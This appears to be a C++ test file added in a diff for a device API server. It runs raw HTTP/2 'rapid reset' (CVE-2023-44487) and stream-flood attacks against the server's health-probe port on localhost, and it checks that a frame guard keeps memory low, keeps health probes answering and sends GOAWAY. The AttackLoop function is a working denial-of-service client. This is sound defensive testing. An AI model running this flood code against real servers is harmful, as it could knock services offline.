@@ -1,0 +1,343 @@
+// S32/S33 on the health-probe port of the real server binary: raw HTTP/2
+// clients doing "rapid reset" (CVE-2023-44487: HEADERS then RST_STREAM in a
+// loop) or opening streams without end while ignoring
+// MAX_CONCURRENT_STREAMS, on 4 connections re-opened when closed. gRPC 1.51
+// alone grew to GiBs within seconds; with the frame guard
+// (server/probe_listener.h) the process stays small, every gRPC health
+// probe during the attack is answered within 1 s, and the attacking
+// connections get a GOAWAY (ENHANCE_YOUR_CALM) and are counted.
+//
+// DEVICEAPI_PROBE_ATTACK_BINARY=/path/to/device-api-server runs the rapid
+// reset against that binary instead (1 connection, 3 s, stopped at 1 GiB)
+// and only prints its peak RSS: how an older build fares.
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <poll.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <atomic>
+#include <cstdlib>
+#include <regex>
+#include <thread>
+
+#include "admin_attack.h"
+#include "http2_frames.h"
+#include "test_support.h"
+
+namespace deviceapi::testing {
+namespace {
+
+using Clock = std::chrono::steady_clock;
+
+// ---- a minimal HTTP/2 client ----
+
+std::string Frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream, const std::string& payload = "") {
+  return deviceapi::testing::Http2Frame(type, flags, stream, payload);
+}
+
+// HPACK string literal, no Huffman (RFC 7541 5.2); lengths here are < 127.
+std::string HpackString(const std::string& s) { return static_cast<char>(s.size()) + s; }
+
+// Header block of a health Check: every field as "literal header field
+// without indexing, new name" (0x00, RFC 7541 6.2.2), so the server's HPACK
+// table never grows.
+std::string HealthCheckHeaderBlock() {
+  std::string block;
+  for (const auto& [name, value] : std::vector<std::pair<std::string, std::string>>{
+           {":method", "POST"},
+           {":scheme", "http"},
+           {":path", "/grpc.health.v1.Health/Check"},
+           {":authority", "localhost"},
+           {"content-type", "application/grpc"},
+           {"te", "trailers"}}) {
+    block += '\0';
+    block += HpackString(name);
+    block += HpackString(value);
+  }
+  return block;
+}
+
+enum class AttackKind { kRapidReset, kStreamFlood };
+
+struct AttackStats {
+  std::atomic<std::uint64_t> connections{0}, streams{0}, goaways{0}, calm_goaways{0};
+};
+
+int Connect(int port) {
+  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_port = htons(static_cast<std::uint16_t>(port));
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  if (::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0) {
+    ::close(fd);
+    return -1;
+  }
+  int yes = 1;
+  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &yes, sizeof(yes));
+  return fd;
+}
+
+// One attacking connection at a time until `stop`: writes as fast as the
+// socket takes it, reads (and parses) whatever the server sends, and opens a
+// new connection when the server closes this one.
+void AttackLoop(AttackKind kind, int port, const std::atomic<bool>& stop, AttackStats& stats) {
+  const std::string block = HealthCheckHeaderBlock();
+  while (!stop.load()) {
+    const int fd = Connect(port);
+    if (fd < 0) {
+      std::this_thread::sleep_for(std::chrono::milliseconds(10));
+      continue;
+    }
+    ++stats.connections;
+    std::string out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(0x4, 0, 0, "");
+    std::string in;
+    std::uint32_t next_stream = 1;
+    bool open = true;
+    while (open && !stop.load()) {
+      // Keep ~64 KiB of frames queued.
+      while (out.size() < (64 << 10) && next_stream < 0x7fff0000u) {
+        if (kind == AttackKind::kRapidReset) {
+          out += Frame(0x1, 0x4, next_stream, block);                          // HEADERS, END_HEADERS
+          out += Frame(0x3, 0, next_stream, std::string("\0\0\0\x8", 4));      // RST_STREAM CANCEL
+        } else {
+          out += Frame(0x1, 0x4, next_stream, block);  // never ends: no END_STREAM, no DATA
+        }
+        next_stream += 2;
+        ++stats.streams;
+      }
+      pollfd p{fd, static_cast<short>(POLLIN | POLLOUT), 0};
+      if (::poll(&p, 1, 100) <= 0) continue;
+      if (p.revents & POLLOUT) {
+        const ssize_t w = ::send(fd, out.data(), out.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
+        if (w < 0 && errno != EAGAIN) open = false;
+        if (w > 0) out.erase(0, static_cast<std::size_t>(w));
+      }
+      if (p.revents & (POLLIN | POLLHUP | POLLERR)) {
+        char buf[16384];
+        const ssize_t r = ::recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
+        if (r <= 0 && !(r < 0 && errno == EAGAIN)) open = false;
+        if (r > 0) in.append(buf, static_cast<std::size_t>(r));
+        // Whole frames: count GOAWAYs.
+        while (in.size() >= 9) {
+          const std::size_t len = (std::size_t(std::uint8_t(in[0])) << 16) | (std::size_t(std::uint8_t(in[1])) << 8) |
+                                  std::uint8_t(in[2]);
+          if (in.size() < 9 + len) break;
+          if (in[3] == 0x7 && len >= 8) {
+            ++stats.goaways;
+            if (std::uint8_t(in[16]) == 0xb && in[13] == 0 && in[14] == 0 && in[15] == 0) ++stats.calm_goaways;
+          }
+          in.erase(0, 9 + len);
+        }
+      }
+    }
+    ::close(fd);
+  }
+}
+
+class Attack {
+ public:
+  Attack(AttackKind kind, int port, int connections) {
+    for (int i = 0; i < connections; ++i) {
+      threads_.emplace_back([this, kind, port] { AttackLoop(kind, port, stop_, stats_); });
+    }
+  }
+  ~Attack() { Stop(); }
+  void Stop() {
+    stop_.store(true);
+    for (auto& t : threads_) {
+      if (t.joinable()) t.join();
+    }
+  }
+  const AttackStats& stats() const { return stats_; }
+
+ private:
+  std::atomic<bool> stop_{false};
+  AttackStats stats_;
+  std::vector<std::thread> threads_;
+};
+
+struct ProbeLatency {
+  int sent = 0, ok = 0;
+  double max_ms = 0;
+};
+
+// A gRPC health Check on a fresh connection every 100 ms for `duration`, as
+// the kubelet does; ok when SERVING within 1 s.
+ProbeLatency ProbeGrpcHealth(int port, std::chrono::milliseconds duration) {
+  ProbeLatency r;
+  const auto end = Clock::now() + duration;
+  while (Clock::now() < end) {
+    grpc::ChannelArguments args;
+    args.SetInt("grpc.use_local_subchannel_pool", 1);  // a new connection each time
+    auto channel = grpc::CreateCustomChannel("127.0.0.1:" + std::to_string(port), grpc::InsecureChannelCredentials(),
+                                             args);
+    auto stub = grpc::health::v1::Health::NewStub(channel);
+    grpc::ClientContext ctx;
+    ctx.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(1));
+    grpc::health::v1::HealthCheckRequest req;
+    grpc::health::v1::HealthCheckResponse resp;
+    const auto t0 = Clock::now();
+    const grpc::Status status = stub->Check(&ctx, req, &resp);
+    const double ms = std::chrono::duration<double, std::milli>(Clock::now() - t0).count();
+    ++r.sent;
+    if (status.ok() && resp.status() == grpc::health::v1::HealthCheckResponse::SERVING) ++r.ok;
+    r.max_ms = std::max(r.max_ms, ms);
+    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+  }
+  return r;
+}
+
+double Rejected(int metrics_port, const std::string& reason) {
+  std::string body;
+  if (HttpGet(metrics_port, "/metrics", &body) != 200) return -1;
+  std::smatch m;
+  const std::regex re("device_apiserver_probe_connections_rejected_total\\{reason=\"" + reason + "\"\\} ([0-9.e+]+)");
+  return std::regex_search(body, m, re) ? std::stod(m[1]) : -1;
+}
+
+struct ProbeAttackCase {
+  const char* name;
+  AttackKind kind;
+  const char* reason;  // the metric's label the guard counts it under
+};
+
+void PrintTo(const ProbeAttackCase& c, std::ostream* os) { *os << c.name; }
+
+class ProbeAttack : public ::testing::TestWithParam<ProbeAttackCase> {};
+
+TEST_P(ProbeAttack, GuardCutsOffAttackProbesAnsweredS33) {
+  TempDir dir;
+  auto s = StartServer(dir.File("api.sock"));
+  ASSERT_TRUE(s) << s.process->Stderr();
+  ASSERT_GT(s.probe_port, 0);
+  ASSERT_TRUE(WaitForHealth(TcpChannel(s.probe_port), grpc::health::v1::HealthCheckResponse::SERVING));
+  EXPECT_EQ(Rejected(s.metrics_port, GetParam().reason), 0);
+
+  ProbeLatency probes;
+  std::uint64_t connections = 0, streams = 0, goaways = 0, calm = 0;
+  {
+    Attack attack(GetParam().kind, s.probe_port, 4);
+    std::this_thread::sleep_for(std::chrono::milliseconds(300));  // let it take hold
+    probes = ProbeGrpcHealth(s.probe_port, std::chrono::seconds(3));
+    attack.Stop();
+    connections = attack.stats().connections;
+    streams = attack.stats().streams;
+    goaways = attack.stats().goaways;
+    calm = attack.stats().calm_goaways;
+  }
+  const std::size_t rss = PeakRssBytes(s.process->pid());
+  const double rejected = Rejected(s.metrics_port, GetParam().reason);
+  std::printf("[ %s ] peak RSS %.1f MiB; attack: %llu connections, %llu streams queued, %llu GOAWAY "
+              "(%llu ENHANCE_YOUR_CALM); rejected{reason=%s} %.0f; probes %d/%d ok, slowest %.1f ms\n",
+              GetParam().name, rss / 1048576.0, static_cast<unsigned long long>(connections),
+              static_cast<unsigned long long>(streams), static_cast<unsigned long long>(goaways),
+              static_cast<unsigned long long>(calm), GetParam().reason, rejected, probes.ok, probes.sent,
+              probes.max_ms);
+  EXPECT_LT(rss, 256u << 20);
+  EXPECT_GT(probes.sent, 10);
+  EXPECT_EQ(probes.ok, probes.sent) << "every probe answered SERVING within 1 s";
+  EXPECT_GT(calm, 0u) << "the attacking connections got a GOAWAY (ENHANCE_YOUR_CALM)";
+  EXPECT_GT(rejected, 0) << "and were counted";
+  EXPECT_GT(connections, 4u) << "the guard closed connections, the attack re-opened them";
+  // Afterwards the port is fine, and the server shuts down in time (S34).
+  EXPECT_EQ(CheckHealth(TcpChannel(s.probe_port)), grpc::health::v1::HealthCheckResponse::SERVING);
+  s.process->Signal(SIGTERM);
+  const ExitResult exit = s.process->Wait(std::chrono::seconds(10));
+  EXPECT_TRUE(exit.exited);
+  EXPECT_EQ(exit.code, 0) << exit.err;
+  EXPECT_NE(exit.err.find("health-probe connection closed"), std::string::npos) << "logged at warn";
+}
+
+INSTANTIATE_TEST_SUITE_P(Attacks, ProbeAttack,
+                         ::testing::Values(ProbeAttackCase{"RapidReset", AttackKind::kRapidReset, "rapid_reset"},
+                                           ProbeAttackCase{"StreamFlood", AttackKind::kStreamFlood, "stream_rate"}),
+                         [](const auto& info) { return std::string(info.param.name); });
+
+// S34: a SIGTERM during the attack still ends the process within the grace
+// period (BaseArgs: 5 s): the guard's thread closes every probe connection.
+TEST(ProbeAttackShutdown, SigtermDuringRapidResetExitsInTimeS34) {
+  TempDir dir;
+  auto s = StartServer(dir.File("api.sock"));
+  ASSERT_TRUE(s) << s.process->Stderr();
+  Attack attack(AttackKind::kRapidReset, s.probe_port, 4);
+  std::this_thread::sleep_for(std::chrono::milliseconds(500));
+  s.process->Signal(SIGTERM);
+  const ExitResult exit = s.process->Wait(std::chrono::seconds(10));
+  attack.Stop();
+  EXPECT_TRUE(exit.exited);
+  EXPECT_EQ(exit.code, 0) << exit.err;
+  EXPECT_LT(exit.seconds, 5.0);
+}
+
+// S32/S33: connections beyond --probe-max-connections-per-peer close that
+// peer's oldest one, so idle connections cannot lock the kubelet out.
+TEST(ProbeConnectionCaps, OldestClosedFreshProbeGetsInS33) {
+  TempDir dir;
+  auto s = StartServer(dir.File("api.sock"), {"--probe-max-connections-per-peer=3"});
+  ASSERT_TRUE(s) << s.process->Stderr();
+  EXPECT_EQ(s.started.value("probe_max_connections_per_peer", 0), 3);
+  std::vector<int> idle;
+  for (int i = 0; i < 6; ++i) {
+    idle.push_back(Connect(s.probe_port));
+    ASSERT_GE(idle.back(), 0);
+    std::this_thread::sleep_for(std::chrono::milliseconds(20));  // accept order = connect order
+  }
+  // Every probe still answers (each one evicts the oldest idle connection).
+  for (int i = 0; i < 5; ++i) {
+    grpc::ChannelArguments args;
+    args.SetInt("grpc.use_local_subchannel_pool", 1);
+    auto channel = grpc::CreateCustomChannel("127.0.0.1:" + std::to_string(s.probe_port),
+                                             grpc::InsecureChannelCredentials(), args);
+    EXPECT_EQ(CheckHealth(channel), grpc::health::v1::HealthCheckResponse::SERVING) << i;
+  }
+  // The first idle connection was closed by the server (EOF or reset, after
+  // gRPC's SETTINGS frame).
+  char buf[256];
+  ssize_t r = 1;
+  for (int i = 0; i < 100 && r > 0; ++i) {
+    pollfd p{idle[0], POLLIN, 0};
+    ASSERT_EQ(::poll(&p, 1, 2000), 1) << "still open";
+    r = ::recv(idle[0], buf, sizeof(buf), 0);
+  }
+  EXPECT_TRUE(r == 0 || (r < 0 && errno == ECONNRESET)) << r;
+  EXPECT_GE(Rejected(s.metrics_port, "connection_limit"), 3);
+  for (int fd : idle) ::close(fd);
+}
+
+// Before/after figure: the rapid reset against another binary, for 3 s on
+// one connection, stopped at 1 GiB. Skipped unless asked for.
+TEST(ProbeAttackBaseline, RapidResetPeakRssOfOtherBinary) {
+  const char* binary = std::getenv("DEVICEAPI_PROBE_ATTACK_BINARY");
+  if (!binary || !*binary) GTEST_SKIP() << "set DEVICEAPI_PROBE_ATTACK_BINARY";
+  TempDir dir;
+  auto args = BaseArgs(dir.File("api.sock"));
+  args.insert(args.begin(), "--storage-type=memory");
+  ServerProcess process(args, {}, binary);
+  auto started = process.WaitStarted();
+  ASSERT_TRUE(started) << process.Stderr();
+  const int port = PortOf((*started)["health_probe"].get<std::string>());
+  std::size_t rss = 0;
+  const auto t0 = Clock::now();
+  {
+    Attack attack(AttackKind::kRapidReset, port, 1);
+    while (Clock::now() - t0 < std::chrono::seconds(3)) {
+      rss = PeakRssBytes(process.pid());
+      if (rss > (1u << 30)) break;
+      std::this_thread::sleep_for(std::chrono::milliseconds(50));
+    }
+    if (rss > (1u << 30)) process.Signal(SIGKILL);
+  }
+  rss = std::max(rss, PeakRssBytes(process.pid()));
+  std::printf("[ baseline ] %s: peak RSS %.1f MiB after %.1f s of rapid reset on 1 connection\n", binary,
+              rss / 1048576.0, std::chrono::duration<double>(Clock::now() - t0).count());
+}
+
+}  // namespace
+}  // namespace deviceapi::testing
